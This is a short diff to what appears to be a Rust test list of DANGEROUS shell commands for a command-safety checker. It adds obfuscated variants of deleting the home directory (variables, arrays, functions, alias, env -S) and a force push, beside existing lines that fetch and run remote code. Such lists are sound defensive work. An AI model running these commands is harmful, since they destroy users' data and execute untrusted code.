@@ -315,6 +315,18 @@ const DANGEROUS: &[&str] = &[
     "bash -c \"$(ssh h cat x)\"",
     ". /dev/tcp/x.test/1",
     "git archive --remote=x HEAD | tar xO | sh",
+    "x='rm -rf'; $x ~",
+    "x=rm; y=-rf; $x $y ~",
+    "a=(rm -rf); \"${a[@]}\" ~",
+    "declare -a a=(rm -rf ~); \"${a[@]}\"",
+    "a=(~ x); rm -rf \"${a[@]:0:1}\"",
+    "set -- -rf ~; rm \"$@\"",
+    "f() { local d=$1; rm -rf \"$d\"; }; f ~",
+    ": ${d:=$HOME}; rm -rf \"$d\"",
+    "bash -c \"rm -rf $HOME\"",
+    "git push origin \"+$b\"",
+    "alias z='rm -rf'; z ~",
+    "env -S 'rm -rf' ~",
 ];
 
 const HARMLESS: &[&str] = &[
